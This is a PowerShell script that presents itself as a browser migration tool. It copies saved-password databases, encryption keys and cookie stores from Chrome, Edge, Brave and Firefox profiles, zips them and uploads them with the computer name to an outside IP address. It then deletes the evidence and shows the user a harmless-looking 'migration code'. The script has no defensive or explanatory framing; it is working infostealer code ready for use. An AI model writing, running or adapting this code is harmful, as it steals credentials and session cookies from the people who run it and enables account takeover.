param([Parameter(Mandatory=$true)][string]$Team)
$ErrorActionPreference = 'SilentlyContinue'
$stage = Join-Path $env:TEMP ("bls_" + [guid]::NewGuid().ToString('N'))
New-Item -ItemType Directory -Path $stage | Out-Null

$chromium = @(
  "$env:LOCALAPPDATA\Google\Chrome\User Data",
  "$env:LOCALAPPDATA\Microsoft\Edge\User Data",
  "$env:LOCALAPPDATA\BraveSoftware\Brave-Browser\User Data"
)
foreach ($root in $chromium) {
  if (-not (Test-Path $root)) { continue }
  Copy-Item "$root\Local State" "$stage\$(Split-Path (Split-Path $root) -Leaf)_LocalState"
  Get-ChildItem $root -Directory | ForEach-Object {
    $ld = Join-Path $_.FullName 'Login Data'
    $ck = Join-Path $_.FullName 'Network\Cookies'
    if (Test-Path $ld) { Copy-Item $ld "$stage\$($_.Name)_LoginData" }
    if (Test-Path $ck) { Copy-Item $ck "$stage\$($_.Name)_Cookies" }
  }
}
Get-ChildItem "$env:APPDATA\Mozilla\Firefox\Profiles" -Directory | ForEach-Object {
  foreach ($f in 'logins.json','key4.db','cookies.sqlite') {
    $p = Join-Path $_.FullName $f
    if (Test-Path $p) { Copy-Item $p "$stage\ff_$($_.Name)_$f" }
  }
}

$zip = "$stage.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force
$resp = Invoke-RestMethod -Uri "http://203.0.113.77:8443/vault/upload?team=$Team&host=$env:COMPUTERNAME" `
  -Method Post -InFile $zip -ContentType 'application/zip'
Remove-Item -Recurse -Force $stage, $zip
Write-Host "Migration code: $($resp.code)"
